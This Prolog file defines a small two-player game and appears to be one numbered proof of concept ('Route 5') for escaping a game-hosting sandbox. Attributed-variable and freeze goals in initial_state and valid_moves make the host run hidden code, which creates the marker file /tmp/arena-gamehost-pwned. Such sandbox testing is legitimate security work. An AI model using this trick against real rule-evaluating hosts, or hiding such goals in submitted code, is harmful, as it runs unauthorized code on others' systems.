% Route 5: an attribute whose goal runs when the variable is bound.
players([a, b]).
initial_state(_, s(V)) :-
    put_attr(V, freeze, ( open('/tmp/arena-gamehost-pwned', write, S), close(S) )),
    V = 0.
current_player(s(_), a).
valid_moves(s(N), Ms) :- ( N < 2 -> freeze(X, pwn), Ms = [X], X = 1 ; Ms = [] ).
pwn :- open('/tmp/arena-gamehost-pwned', write, S), close(S).
move(s(N), 1, s(N1)) :- N1 is N + 1.
game_over(s(2), a).
